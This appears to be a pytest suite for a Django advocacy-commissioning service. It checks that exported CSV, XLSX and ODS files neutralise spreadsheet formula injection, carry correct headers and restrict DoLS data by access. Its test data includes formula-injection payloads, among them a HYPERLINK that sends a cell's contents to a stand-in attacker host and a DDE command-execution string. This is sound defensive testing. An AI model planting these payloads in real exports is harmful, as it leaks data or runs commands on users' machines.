"""Every CSV the service writes is safe to open in a spreadsheet (issue 11): no cell
starts a formula, a UTF-8 byte order mark, the right headers and a dated file name;
read back with csv.reader as a spreadsheet would."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from xml.sax.saxutils import escape

import openpyxl
import pytest
from django.test import Client
from django.utils import timezone

from imca_commissioning.exports import (
    BOM,
    FORMULA_STARTS,
    Table,
    file_name,
    render,
    safe_cell,
    table_response,
)
from tests.factories import (
    AdvocateFactory,
    CommissionerUserFactory,
    ContractFactory,
    FlagFactory,
    ProviderFactory,
    TrainingRecordFactory,
    unit,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rCarriage",
]
NON_ASCII = "Zoë Ó'Brien"


def as_(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def read_back(response) -> list[list[str]]:
    raw = response.content
    assert raw.startswith(BOM.encode("utf-8")), "no UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8").removeprefix(BOM))))


def assert_safe(rows: list[list[str]]) -> None:
    formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not formulas, f"cells a spreadsheet would run: {formulas}"


def assert_headers(response, stem: str) -> None:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in {d.strip() for d in response["Cache-Control"].split(",")}
    day = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="{stem}-{day}.csv"'


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ['\x00=HYPERLINK("http://evil.example/")', "\x1b+1", "\x08@SUM(A1)"]
)
def test_a_formula_behind_a_control_character_is_quoted_in_every_format(value):
    # A reader that drops the control character (as the XLSX and ODS writers must: XML
    # cannot hold it) would otherwise see a formula: CSV, XLSX and ODS write the same cell.
    bare = value[1:]
    assert safe_cell(value) == "'" + bare
    table = Table("people", ["note"], [[value]])
    rows = list(csv.reader(io.StringIO(render(table).decode("utf-8").removeprefix(BOM))))
    assert rows[1] == ["'" + bare]
    sheet = openpyxl.load_workbook(io.BytesIO(render(table, "xlsx"))).worksheets[0]
    assert sheet["A2"].value == "'" + bare and sheet["A2"].data_type == "s"
    content = zipfile.ZipFile(io.BytesIO(render(table, "ods"))).read("content.xml").decode()
    assert "<text:p>" + escape("'" + bare) + "</text:p>" in content


@pytest.mark.parametrize(
    ("value", "cell"),
    [(None, ""), (-5, -5), (3, 3), (date(2026, 1, 2), date(2026, 1, 2)), ("Plain", "Plain")],
)
def test_numbers_dates_and_plain_text_are_written_as_themselves(value, cell):
    assert safe_cell(value) == cell


def test_a_table_renders_with_a_bom_and_reads_back_whole():
    table = Table("people", ["name", "note"], [[NON_ASCII, HOSTILE[0]], ["Ann", None]])
    text = render(table).decode("utf-8")
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows == [["name", "note"], [NON_ASCII, "'" + HOSTILE[0]], ["Ann", ""]]


def test_a_file_name_carries_the_day_and_nothing_that_breaks_the_header():
    assert file_name('Training matrix "A/B"', date(2026, 11, 29), "csv") == (
        "training-matrix-a-b-2026-11-29.csv"
    )
    response = table_response(Table("flags", ["a"], []), on=date(2026, 11, 29))
    assert response["Content-Disposition"] == 'attachment; filename="flags-2026-11-29.csv"'


def test_the_training_matrix_csv_is_safe(world):
    for name in [*HOSTILE, NON_ASCII]:
        adv = AdvocateFactory(provider=world.provider, name=name, role_start=date(2025, 1, 1))
        TrainingRecordFactory(advocate=adv, unit=unit("305"), trained_on=date(2025, 1, 1))
    response = as_(world.manager).get("/training/matrix/?format=csv")
    assert_headers(response, "training-matrix-northgate-advocacy")
    rows = read_back(response)
    assert_safe(rows)
    names = [row[0] for row in rows[1:]]
    assert NON_ASCII in names
    assert "'" + HOSTILE[0] in names


def test_the_flags_csv_is_safe(world):
    adv = AdvocateFactory(provider=world.provider, name=NON_ASCII)
    for reason in HOSTILE:
        FlagFactory(provider=world.provider, advocate=adv, reason=reason, category="IMCA")
    response = as_(world.manager).get("/compliance/flags/?format=csv")
    assert_headers(response, "flags")
    rows = read_back(response)
    assert_safe(rows)
    assert rows[0] == ["kind", "provider", "advocate", "reason", "due", "raised_on", "resolved_on"]
    assert {row[2] for row in rows[1:]} == {NON_ASCII}
    assert {row[3] for row in rows[1:]} == {"'" + r for r in HOSTILE}


def test_the_dashboard_csv_is_safe(world):
    hostile = ProviderFactory(name="=cmd|' /C calc'!A0")
    ContractFactory(provider=hostile, commissioner=world.contract.commissioner)
    response = as_(world.commissioner).get("/compliance/dashboard/?format=csv")
    assert_headers(response, "compliance-dashboard")
    rows = read_back(response)
    assert_safe(rows)
    assert "'=cmd|' /C calc'!A0" in [row[0] for row in rows[1:]]


def test_an_imca_only_commissioner_downloads_no_dols_figures(world):
    imca = ContractFactory(provider=world.provider, services=["imca"])
    user = CommissionerUserFactory(commissioner=imca.commissioner)
    header = read_back(as_(user).get("/compliance/dashboard/?format=csv"))[0]
    assert "dols_without_training_or_experience" not in header
    matrix = read_back(as_(user).get(f"/training/matrix/?provider={world.provider.pk}&format=csv"))
    assert not [h for h in matrix[0] if "DOLS" in h.upper()]
    full = read_back(as_(world.commissioner).get("/compliance/dashboard/?format=csv"))[0]
    assert "dols_without_training_or_experience" in full
